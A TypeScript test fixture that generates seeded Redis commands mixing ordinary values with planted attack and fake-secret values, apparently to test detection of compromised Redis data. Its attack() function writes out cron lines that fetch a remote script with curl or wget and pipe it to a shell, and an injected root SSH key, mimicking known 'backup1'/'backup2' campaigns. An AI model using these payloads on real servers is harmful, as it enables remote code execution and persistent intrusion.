import { createHash, generateKeyPairSync } from 'node:crypto';
import type { Random } from '../../src/platform/random.ts';

/** Commands that fill a server with honest data and, as `kinds` tells, with what attacks and applications leave in it. */
export interface MixedData {
  readonly commands: readonly (readonly [string, ...string[]])[];
}

export interface Kinds {
  readonly attacks: boolean;
  readonly secrets: boolean;
}

/** Every type of value in small and large encodings; repeatable from the seed. No two of its keys are alike. */
export function mixedData(random: Random, { attacks, secrets }: Kinds, keys = 60): MixedData {
  const values = [
    ...Array.from({ length: keys }, () => honest(random)),
    ...(attacks ? Array.from({ length: 6 }, () => attack(random)) : []),
    ...(secrets ? Array.from({ length: 6 }, () => secret(random)) : []),
  ];
  return {
    commands: values.flatMap((value, at) => placed(random, `${word(random)}:${at}`, value)),
  };
}

/** Names that campaigns are known by, with the values that they put there. */
export function campaignKeys(random: Random): MixedData {
  return { commands: ['backup1', 'backup2'].map((name) => ['SET', name, attack(random)] as const) };
}

const pick = <T>(random: Random, from: readonly T[]): T => {
  const one = from[random.below(from.length)];
  if (one === undefined) throw new Error('nothing to pick from');
  return one;
};

function word(random: Random): string {
  return pick(random, ['user', 'session', 'cart', 'job', 'page', 'rank', 'cache', 'app']);
}

function honest(random: Random): string {
  switch (random.below(7)) {
    case 0:
      return String(random.below(2 ** 31) - 2 ** 30);
    case 1:
      return JSON.stringify({ id: random.below(1e6), name: `name ${random.below(99)}`, tags: ['a', 'b'] });
    case 2:
      return `<p>${'a quick fox jumps. '.repeat(random.below(60))}</p>`;
    case 3:
      return random.hex(20 + random.below(200));
    case 4:
      return Buffer.from(random.hex(1 + random.below(40)), 'hex').toString('latin1');
    case 5:
      return 'x'.repeat(random.below(9_000));
    default:
      return `plain ${random.below(1_000)}`;
  }
}

function attack(random: Random): string {
  const host = `203.0.113.${1 + random.below(250)}`;
  switch (random.below(3)) {
    case 0:
      return `\n\n*/${1 + random.below(9)} * * * * root curl -fsSL http://${host}/init.sh | sh\n\n`;
    case 1:
      return `\n\n\n*/2 * * * * wget -q -O- http://${host}:8080/${random.hex(4)}.sh | bash\n\n`;
    default:
      return `\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC${Buffer.from(random.hex(180), 'hex').toString('base64')} root@${host}\n\n\n`;
  }
}

const { privateKey } = generateKeyPairSync('ec', {
  namedCurve: 'P-256',
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});

function secret(random: Random): string {
  switch (random.below(4)) {
    case 0:
      return privateKey;
    case 1:
      return JSON.stringify({ database: `postgres://app:${random.hex(12)}@db.example.invalid:5432/shop` });
    case 2:
      return `ghp_${createHash('sha512').update(random.hex(8)).digest('base64').replace(/[+/=]/g, 'x').slice(0, 36)}`;
    default:
      return Array.from(
        { length: 14 },
        () => `person.${random.hex(4)}@mail${random.below(9)}.example.com`,
      ).join('\n');
  }
}

/** The value in one of the types, alone or among honest ones. */
function placed(random: Random, key: string, value: string): (readonly [string, ...string[]])[] {
  const others = Array.from({ length: random.below(8) }, (_, at) => `item ${at} ${random.below(1_000)}`);
  const all = [...others, value];
  switch (random.below(7)) {
    case 0:
      return [['RPUSH', key, ...all]];
    case 1:
      return [['SADD', key, ...new Set(all)]];
    case 2:
      return [['HSET', key, ...all.flatMap((one, at) => [`field${at}`, one])]];
    case 3:
      return [['ZADD', key, ...[...new Set(all)].flatMap((one, at) => [String(at / 2), one])]];
    case 4:
      return all
        .slice(-4)
        .map((one, at) => ['XADD', key, `${at + 1}-1`, 'field', one, 'other', String(at)] as const);
    case 5:
      return [['SET', key, value, 'EX', '100000']];
    default:
      return [['SET', key, value]];
  }
}
